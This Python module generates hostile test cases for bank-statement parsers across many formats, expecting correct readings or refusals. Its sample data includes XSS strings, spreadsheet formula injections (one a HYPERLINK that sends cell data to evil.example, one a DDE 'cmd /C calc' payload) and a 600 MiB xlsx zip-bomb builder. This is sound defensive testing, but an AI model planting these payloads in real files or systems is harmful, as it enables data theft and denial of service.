"""The hostile campaign: valid variants (legal but unusual) and damaged inputs for every format.

A case is (format, category, variant, seed). Building it draws the truth, renders it with the variant
applied and says what reading it must give: the expected rows, or ``None`` when the only right
answer is a refusal (a damaged amount, an impossible date, a cut file).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from .truth import FULLWIDTH_DIGITS, D, draw_amount, draw_txns, pan_ending
from .writers import FORMATS, SKIP, Ctx, Rendered

AMOUNT_TOKENS = {
    "amt_3dec": "12.345",
    "amt_1e5": "1e5",
    "amt_1E5": "1E5",
    "amt_hex": "0x10",
    "amt_2p64_money": "184467440737095387.66",
    "amt_2p64": "18446744073709551616",
    "amt_dots": "12.34.56",
    "amt_comma": "1,00",
    "amt_nan": "NaN",
    "amt_inf": "inf",
    "amt_empty": "",
    "amt_underscore": "1_000",
    "amt_trailsign": "5-",
    "amt_1e309": "1e309",
    "amt_fw_3dec": "１２.３４５",
    "amt_space": "12 50",
}
MT940_TOKENS = {
    "amt_3dec": "12.345",
    "amt_1e5": "1E5",
    "amt_hex": "0x10",
    "amt_16digits": "1234567890123456,00",
    "amt_trailsign": "5-",
    "amt_underscore": "1_000",
    "amt_1e309": "1e309",
    "amt_dec3": "12,345",
    "amt_twocommas": "1,2,3",
    "amt_empty": "",
}
MINOR_TOKENS = {  # canonical journal: amount_minor is an integer
    "amt_decimal": "12.5",
    "amt_1e5": "1e5",
    "amt_hex": "0x10",
    "amt_2p63": "9223372036854775808",
    "amt_2p64": "18446744073709551616",
    "amt_over_max": "1000000000000001",
    "amt_empty": "",
    "amt_float": "128.50",
}
BAD_DATES = {
    "date_feb30": lambda d: D(d.y, 2, 30, d.h, d.mi, d.s),
    "date_month13": lambda d: D(d.y, 13, 1, d.h, d.mi, d.s),
    "date_apr31": lambda d: D(d.y, 4, 31, d.h, d.mi, d.s),
    "date_y0001": lambda d: D(1, 1, 1, d.h, d.mi, d.s),
    "date_y9999": lambda d: D(9999, 12, 31, d.h, d.mi, d.s),
    "time_25h": lambda d: D(d.y, d.mo, d.d, 25, 61, 0),
}
# formats with a posting date beside the transaction date: a blank transaction date falls back to it
TWO_DATES = {"cmb_credit", "icbc", "boc_credit", "bocom_credit", "cgb_credit", "hsbc_hk_credit"}
YEARLESS = {"cmb_credit", "mt940", "sms_text", "sms_json"}  # year written with 2 digits or absent
DATE_ONLY = {
    "cmb_credit",
    "cmb_debit",
    "icbc",
    "boc_credit",
    "bocom_credit",
    "cgb_credit",
    "hsbc_hk_credit",
    "hsbc_hk_debit",
    "mt940",
}
OFFSETS = {
    "camt053": ["+24:00", "-24:00", "+25:00", "+99:99"],
    "camt054": ["+24:00", "-24:00", "+25:00", "+99:99"],
    "journal_csv": ["+24:00", "-24:00", "+25:00", "+99:99"],
    "proofs_csv": ["+24:00", "-24:00", "+25:00", "+99:99"],
    "ofx1": ["+24:XXX", "-24", "+25:ZZ", "+99"],
    "ofx2": ["+24:XXX", "-24", "+25:ZZ", "+99"],
    "paypal": ["XYZ", "UTC+24", "+24:00", "GMT+99"],
}
ROW_LEVEL = {
    *AMOUNT_TOKENS,
    *MT940_TOKENS,
    *MINOR_TOKENS,
    *BAD_DATES,
    "blank_date",
    "missing_cell",
    "swap_amount_date",
}
ROW_LEVEL |= {"off_" + o for offs in OFFSETS.values() for o in offs}
PAN_STYLES = ["ascii", "spaced", "dashed", "fullwidth", "fullwidth_spaced"]
HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "+1+1",
    "-2+3",
]


def pan_text(pan: str, style: str) -> str:
    groups = [pan[i : i + 4] for i in range(0, len(pan), 4)]
    if style == "ascii":
        return pan
    if style == "spaced":
        return " ".join(groups)
    if style == "dashed":
        return "-".join(groups)
    if style == "fullwidth":
        return pan.translate(FULLWIDTH_DIGITS)
    return " ".join(groups).translate(FULLWIDTH_DIGITS)


def variants(fmt_name: str) -> list[tuple[str, str]]:
    """(category, variant) pairs that apply to a format."""
    f = FORMATS[fmt_name]
    if fmt_name == "foreign_csv":
        return [("damaged", "unknown_layout"), ("damaged", "unknown_layout_ending")]
    out = [("valid", "plain")]
    for cap in sorted(f.caps):
        out.append(("valid", cap))
    if f.kind in ("table", "text"):
        out.append(("valid", "no_final_eol"))
    if f.kind == "table" or fmt_name in ("wechat_xlsx",):
        out.append(("valid", "more_rows"))
    # damaged
    if fmt_name in ("journal_csv", "journal_parquet", "proofs_csv"):
        toks = MINOR_TOKENS
    elif fmt_name == "mt940":
        toks = MT940_TOKENS
    else:
        toks = AMOUNT_TOKENS
    for k in toks:
        out.append(("damaged", k))
    for k in BAD_DATES:
        if fmt_name in YEARLESS and k in ("date_y0001", "date_y9999"):
            continue
        if fmt_name in DATE_ONLY and k == "time_25h":
            continue
        if fmt_name == "paypal" and k == "date_month13":
            continue  # 01/13/2025 in a DD/MM file is a valid MM/DD date: the file decides the order
        if fmt_name == "journal_parquet":
            continue
        out.append(("damaged", k))
    for o in OFFSETS.get(fmt_name, []):
        out.append(("damaged", "off_" + o))
    if fmt_name in ("journal_csv", "journal_parquet"):
        out.append(("damaged", "naive_time"))
    if fmt_name == "journal_csv":
        out += [("damaged", "date_only_ts"), ("damaged", "dup_txn_id")]
    for s in PAN_STYLES:
        out.append(("damaged", "pan_" + s))
    if fmt_name in ("unionpay_terminal", "counter", "sms_text", "sms_json"):
        out.append(("damaged", "pan_in_card_field"))
        out.append(("damaged", "pan_in_card_field_fw"))
    out.append(("damaged", "html_merchant"))
    if fmt_name not in ("sms_text", "sms_json"):
        out.append(("damaged", "formula_merchant"))
    if fmt_name != "counter":
        out.append(("damaged", "long_cell"))
        out.append(("damaged", "truncate"))
        out.append(("damaged", "truncate_small"))
        out.append(("damaged", "garbage_bytes"))
        out.append(("damaged", "utf16"))
    if f.kind == "table":
        out += [
            ("damaged", "extra_cell"),
            ("damaged", "missing_cell"),
            ("damaged", "swap_amount_date"),
            ("damaged", "blank_date"),
            ("damaged", "wide_row_20000"),
            ("damaged", "wide_header_20000"),
            ("damaged", "short_last_row"),
        ]
    if fmt_name == "mt940":
        out += [("damaged", "drop_62F"), ("damaged", "drop_first_61")]
    if fmt_name in ("ofx1", "ofx2"):
        out += [("damaged", "drop_close_ofx"), ("damaged", "no_currency")]
    if fmt_name == "sms_json":
        out += [("damaged", "json_trailing_garbage")]
    if fmt_name == "wechat_xlsx":
        out += [("damaged", "xlsx_bomb"), ("damaged", "xlsx_dimension_lie")]
    if fmt_name in ("wechat_csv", "journal_csv"):
        out += [("damaged", "cell_20mb")]
    if fmt_name != "counter":
        out += [("damaged", "lenient_amt_hex"), ("damaged", "lenient_date_feb30")]
        if f.kind == "table":
            out.append(("damaged", "lenient_missing_cell"))
    return out


@dataclass
class Case:
    fmt: str
    category: str
    variant: str
    seed: int
    rows: int = 0
    rendered: Rendered | None = None
    data: bytes | None = None
    expect: list | None = None  # None: only a refusal is right
    truth: list | None = None  # what the undamaged file holds
    line: int | None = None  # 1-based line of the damaged row in a text table (where a refusal should point)
    require_rejected: bool = False  # strict=False: the damaged row must be listed in attrs["rejected"]
    k: int = 0  # the row a damage touched
    pans: list[str] = field(default_factory=list)
    forbidden: list[str] = field(default_factory=list)
    note: str = ""


def build(fmt_name: str, category: str, variant: str, seed: int, *, max_rows: int = 4) -> Case:
    f = FORMATS[fmt_name]
    rng = random.Random(f"{fmt_name}|{variant}|{seed}")
    n = rng.randint(max(1, f.minrows), max(f.minrows, max_rows))
    if variant == "more_rows":
        n = 40
    if fmt_name == "counter":
        n = 1
    txns = draw_txns(rng, n, tz=f.tz, currency=f.currency, english=f.english, seconds=f.seconds)
    ctx = Ctx(rng)
    case = Case(fmt_name, category, variant, seed, rows=n)
    k = rng.randrange(n)  # the row a damage touches
    must_refuse = False
    opts = set()
    post: list[str] = []

    # ------------------------------------------------ valid variants
    if category == "valid":
        if variant in ("thousands",):
            opts.add("thousands")
            txns[k].amount_minor = draw_amount(rng, big=True)
        elif variant in (
            "fullwidth",
            "plus",
            "padded",
            "sub_merchant",
            "abn_header",
            "nonref",
            "short_decimals",
        ):
            opts.add(variant)
            if variant == "plus":
                txns[k].direction = "credit" if fmt_name not in ("cmb_credit", "cgb_credit") else "debit"
            if variant == "short_decimals":
                txns[k].amount_minor = txns[k].amount_minor // 100 * 100 or 100
        elif variant in (
            "v08",
            "dt_only",
            "naive",
            "date_only",
            "cmb_push",
            "ascii_json",
            "yen",
            "arabic",
            "partial_refund",
            "returned_transfer",
            "moved_header",
            "no_seconds",
            "alt_last4_header",
            "utf8_in_1252",
            "cp1252",
        ):
            opts.add(variant)
        elif variant == "empty_opt":
            txns[k].merchant = None
            txns[k].last4 = None
            txns[k].order_no = None
        elif variant in ("bom", "crlf", "lf", "gbk", "utf8", "quoted", "tsv", "reorder", "no_final_eol"):
            post.append(variant)
        elif variant in ("plain", "more_rows"):
            pass
        else:
            raise ValueError(variant)
    # ------------------------------------------------ damages
    else:
        lenient = variant.startswith("lenient_")
        if lenient:
            variant = variant[len("lenient_") :]
        if variant in ("unknown_layout", "unknown_layout_ending"):
            if variant.endswith("ending"):
                opts.add("ending")
            must_refuse = True
        elif variant in ("xlsx_bomb", "xlsx_dimension_lie", "cell_20mb"):
            post.append(variant)
            if variant == "cell_20mb":
                ctx.merch[k] = "x" * 20_000_000
                opts.add("keep_merchant")
        elif variant.startswith("amt_"):
            toks = (
                MINOR_TOKENS
                if fmt_name in ("journal_csv", "journal_parquet", "proofs_csv")
                else AMOUNT_TOKENS
            )
            if fmt_name == "mt940":
                toks = MT940_TOKENS
            ctx.amt[k] = toks[variant]
            must_refuse = True
            if variant == "amt_comma" and fmt_name in ("ofx1", "ofx2"):
                # OFX allows a comma as the decimal mark: "1,00" is 1.00
                must_refuse = False
                txns[k].amount_minor = 100
        elif variant in BAD_DATES:
            ctx.date[k] = BAD_DATES[variant](D.of(txns[k].ts))
            must_refuse = True
        elif variant.startswith("off_"):
            ctx.off[k] = variant[4:]
            must_refuse = True
        elif variant in ("date_only_ts", "dup_txn_id"):
            post.append(variant)
            must_refuse = True
        elif variant == "naive_time":
            opts.add("naive")
            ctx.off.update({i: "" for i in range(n)})
            must_refuse = True
        elif variant.startswith("pan_"):
            t = txns[k]
            t.last4 = t.last4 or "1234"
            pan = pan_ending(t.last4, rng, rng.choice([16, 16, 19]))
            case.pans.append(pan)
            style = variant[4:]
            if style.startswith("in_card_field"):
                text = pan if not style.endswith("_fw") else pan.translate(FULLWIDTH_DIGITS)
                if fmt_name == "sms_text" or fmt_name == "sms_json":
                    ctx.merch[-1 - k] = f" 交易卡号{text}"
                else:
                    ctx.merch[-1 - k] = text
            else:
                text = f"{txns[k].merchant or 'SHOP'} 卡号{pan_text(pan, style)} 有效期 09/39"
                case.forbidden.append("09/39")
                if fmt_name in ("sms_text", "sms_json"):
                    ctx.merch[-1 - k] = " " + text
                else:
                    ctx.merch[k] = text
        elif variant == "html_merchant":
            ctx.merch[k] = HTML + (txns[k].merchant or "")
            opts.add("keep_merchant")
        elif variant == "formula_merchant":
            ctx.merch[k] = rng.choice(FORMULAS)
            opts.add("keep_merchant")
        elif variant == "long_cell":
            # a workbook cell holds at most 32,767 characters (openpyxl cuts there when writing)
            ctx.merch[k] = "长" * (32_767 if fmt_name == "wechat_xlsx" else 300_000)
            opts.add("keep_merchant")
        elif variant in ("truncate", "truncate_small", "garbage_bytes", "utf16", "json_trailing_garbage"):
            post.append(variant)
        elif variant in ("extra_cell", "missing_cell", "swap_amount_date", "blank_date", "short_last_row"):
            post.append(variant)
            must_refuse = not (variant == "blank_date" and fmt_name in TWO_DATES | {"proofs_csv"})
        elif variant == "wide_row_20000":
            post.append(variant)
            must_refuse = True
        elif variant == "wide_header_20000":
            post.append(variant)
        elif variant in ("drop_62F", "drop_first_61", "drop_close_ofx", "no_currency"):
            post.append(variant)
            must_refuse = True
        else:
            raise ValueError(variant)

    ctx.opts = frozenset(opts)
    r = f.writer(txns, ctx)
    r.fmt = fmt_name
    expect = None if must_refuse else r.expect
    if category == "damaged" and lenient:
        # strict=False: the damaged row is left out and listed as rejected, the others read exactly
        variant = "lenient_" + variant
        r.kwargs["strict"] = False
        expect = [e for j, e in enumerate(r.expect) if j != k]
        case.require_rejected = True
    case.forbidden += r.forbidden

    for p in post:
        expect = _post(p, r, rng, k, expect, case)
    case.rendered = r
    if r.table is not None and r.data is None and category == "damaged" and variant in ROW_LEVEL:
        case.line = len(r.table.pre) + 2 + k
    case.expect = expect
    case.truth = r.expect
    case.k = k
    if fmt_name == "proofs_csv" and variant == "blank_date":
        # a canonical proof without its ts but with its date is a day-precision proof
        case.expect = [dict(e) for e in expect]
        case.expect[k].update(ts=None, ts_precision="day")
    if "garbage_bytes" in post and expect is not None:
        # garbage landing in free text may be read as text: compare only what must never change
        keep = ("amount_minor", "currency", "direction", "ts", "date", "ts_precision", "txn_type")
        case.expect = [{key: (v if key in keep else SKIP) for key, v in e.items()} for e in expect]
    if r.call != "counter":
        case.data = _final_bytes(r, post, rng, case)
        if case.data is None:
            case.expect = None
    return case


def _post(p: str, r: Rendered, rng: random.Random, k: int, expect, case: Case):
    doc = r.table
    if p == "bom":
        r.bom = True
    elif p == "crlf":
        r.eol = "\r\n"
    elif p == "lf":
        r.eol = "\n"
    elif p == "gbk":
        r.encoding, r.bom = "gb18030", False
    elif p == "utf8":
        r.encoding = "utf-8"
    elif p == "no_final_eol":
        r.final_eol = False
    elif doc is None:
        if p in ("drop_62F", "drop_first_61", "drop_close_ofx", "no_currency"):
            lines = r.text.split("\n")
            if p == "drop_62F":
                lines = [x for x in lines if not x.startswith(":62F:")]
            elif p == "drop_first_61":
                i = next(i for i, x in enumerate(lines) if x.startswith(":61:"))
                del lines[i]
            elif p == "drop_close_ofx":
                r.text = r.text.replace("</OFX>", "")
                return expect
            elif p == "no_currency":
                r.text = r.text.replace("<CURDEF>USD</CURDEF>", "").replace("<CURDEF>USD", "")
                return expect
            r.text = "\n".join(lines)
        return expect
    elif p == "quoted":
        doc.quote_all = True
    elif p == "tsv":
        doc.sep = "\t"
    elif p == "reorder":
        idx = list(range(len(doc.header)))
        rng.shuffle(idx)
        doc.header = [doc.header[i] for i in idx]
        doc.rows = [[row[i] for i in idx] for row in doc.rows]
        doc.roles = {role: idx.index(c) for role, c in doc.roles.items()}
    elif p == "extra_cell":
        doc.rows[k] = doc.rows[k] + ["EXTRA"]
    elif p == "missing_cell":
        c = doc.roles.get("merchant", 1)
        doc.rows[k] = doc.rows[k][:c] + doc.rows[k][c + 1 :]
    elif p == "swap_amount_date":
        a, d = doc.roles["amount"], doc.roles["date"]
        row = doc.rows[k]
        row[a], row[d] = row[d], row[a]
    elif p == "date_only_ts":
        c = doc.roles["date"]
        doc.rows[k][c] = doc.rows[k][c][:10]
    elif p == "dup_txn_id":
        if len(doc.rows) > 1:
            doc.rows[-1][0] = doc.rows[0][0]
        else:
            doc.rows.append(list(doc.rows[0]))
    elif p == "blank_date":
        doc.rows[k][doc.roles["date"]] = ""
    elif p == "short_last_row":
        # the file cut after the amount cell of its last row (no final line break)
        last = doc.rows[-1]
        cut = max(doc.roles["amount"], doc.roles["date"]) + 1
        doc.rows[-1] = last[:cut]
        doc.post = []
        r.final_eol = False
    elif p == "wide_row_20000":
        doc.rows[k] = doc.rows[k] + ["x"] * 20_000
    elif p == "wide_header_20000":
        doc.header = doc.header + [f"c{i}" for i in range(20_000)]
        doc.rows = [row + [""] * 20_000 for row in doc.rows]
    return expect


def _final_bytes(r: Rendered, post: list[str], rng: random.Random, case: Case) -> bytes | None:
    data = r.to_bytes()
    if "truncate" in post:
        # cut somewhere in the second half of the file, never on the file's own end
        lo = len(data) // 2
        cut = rng.randrange(lo, len(data) - 1)
        while cut < len(data) - 1 and data[cut - 1 : cut] in (b"\n", b"\r"):
            cut += 1  # a cut right after a line break leaves a file no reader can tell from a shorter one
        data = data[:cut]
        case.note = f"cut at byte {cut} of {len(r.to_bytes())}"
        _rows_before_cut(r, cut, case)
    elif "truncate_small" in post:
        cut = len(data) - rng.randint(2, 6)
        data = data[:cut]
        case.note = f"cut at byte {cut} of {len(r.to_bytes())}"
        _rows_before_cut(r, cut, case)
    elif "garbage_bytes" in post:
        pos = rng.randrange(len(data) // 3, len(data))
        data = data[:pos] + b"\x00\xff\xfe\x81" + data[pos:]
        case.note = f"4 bytes inserted at {pos}"
    elif "utf16" in post:
        text = data.decode(r.encoding if r.data is None else "latin-1", errors="replace")
        data = text.encode("utf-16")
    elif "xlsx_bomb" in post or "xlsx_dimension_lie" in post:
        data = _xlsx_rewrite(data, bomb="xlsx_bomb" in post)
        case.note = (
            "sheet padded to 600 MiB of XML whitespace" if "xlsx_bomb" in post else "dimension A1:XFD1048576"
        )
    elif "json_trailing_garbage" in post:
        data = data + b'\n{"body": "tail'
        return data if False else _mark_refuse(case, data)
    return data


def _xlsx_rewrite(data: bytes, *, bomb: bool) -> bytes:
    """Rewrite the first sheet: 600 MiB of whitespace before </worksheet> (a zip bomb), or a lying dimension."""
    import io
    import zipfile

    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                text = body.decode("utf-8")
                if bomb:
                    head, tail = text.rsplit("</worksheet>", 1)
                    with dst.open(info.filename, "w", force_zip64=True) as fh:
                        fh.write(head.encode("utf-8"))
                        chunk = b" " * (1 << 20)
                        for _ in range(600):
                            fh.write(chunk)
                        fh.write(("</worksheet>" + tail).encode("utf-8"))
                    continue
                import re

                text = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', text)
                body = text.encode("utf-8")
            dst.writestr(info, body)
    return out.getvalue()


def _rows_before_cut(r: Rendered, cut: int, case: Case) -> None:
    """A line-per-row file (a table, SMS lines) cut at byte `cut`: rows that start after the cut are gone
    without a trace (no reader can know), so the truth is the rows that started before it. The row the
    cut falls in must still be refused or read whole: a cut value read as another is silently wrong."""
    if r.data is not None or case.expect is None or (r.table is None and r.fmt != "sms_text"):
        return
    lines = r.table.lines() if r.table is not None else r.text.split("\n")
    first_data = len(r.table.pre) + 1 if r.table is not None else 0
    pos = 3 if r.bom else 0
    started = 0
    for i, line in enumerate(lines):
        if i >= first_data and i < first_data + len(case.expect) and pos < cut:
            started += 1
        pos += len((line + r.eol).encode(r.encoding))
    case.expect = case.expect[:started]
    case.note += f"; {started} of {len(case.truth or [])} rows start before the cut"


def _mark_refuse(case: Case, data: bytes) -> bytes:
    case.expect = None
    case.note = "text after the JSON value"
    return data


def all_pairs() -> list[tuple[str, str, str]]:
    return [(f, c, v) for f in FORMATS for c, v in variants(f)]
